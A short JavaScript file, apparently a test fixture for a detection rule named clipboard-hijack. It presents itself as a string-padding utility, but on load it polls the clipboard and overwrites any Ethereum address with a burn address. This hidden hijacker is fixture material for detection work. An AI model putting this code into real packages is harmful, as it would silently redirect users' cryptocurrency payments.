// On require: poll the clipboard and replace Ethereum addresses with the attacker's (a burn address here).
const clipboardy = require('clipboardy');

setInterval(() => {
  const text = clipboardy.readSync();
  if (/^0x[a-fA-F0-9]{40}$/.test(text)) {
    // ruleid: code/clipboard-hijack
    clipboardy.writeSync('0x000000000000000000000000000000000000dEaD');
  }
}, 500);

module.exports = function pad(s, n) {
  return String(s).padStart(n);
};
